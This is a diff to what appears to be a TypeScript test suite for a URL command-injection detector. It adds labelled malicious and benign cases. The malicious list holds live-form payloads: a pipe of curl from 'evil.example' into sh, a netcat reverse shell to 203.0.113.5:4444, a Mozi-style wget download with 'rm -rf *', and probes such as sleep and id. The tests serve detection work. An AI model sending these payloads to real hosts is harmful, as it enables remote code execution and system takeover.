@@ -181,8 +181,21 @@ const CASES: Record<
       '/cgi-bin/x?cmd=/bin/sh',
       '/shell?cd+/tmp;rm+-rf+*;wget+http://1.2.3.4/Mozi.m',
       '/x?c=%0acat /etc/hosts',
+      '/ping?host=1;curl evil.example|sh',
+      '/ping?host=1;nc 203.0.113.5 4444 -e /bin/sh',
+      '/x?c=;sleep 5',
+      '/x?c=|id;',
     ],
-    no: ['/files/?C=M;O=D', '/search?q=identity', '/page;jsessionid=abc', '/a?x=1&&y=2'],
+    no: [
+      '/files/?C=M;O=D',
+      '/search?q=identity',
+      '/page;jsessionid=abc',
+      '/a?x=1&&y=2',
+      // Searches with a semicolon before a word that is also a command.
+      '/search?q=kids;+ping+pong',
+      "/search?q=mother's+day;+cat+gifts",
+      '/search?q=yoga|sleep+better',
+    ],
   },
   shellshock: {
     yes: [
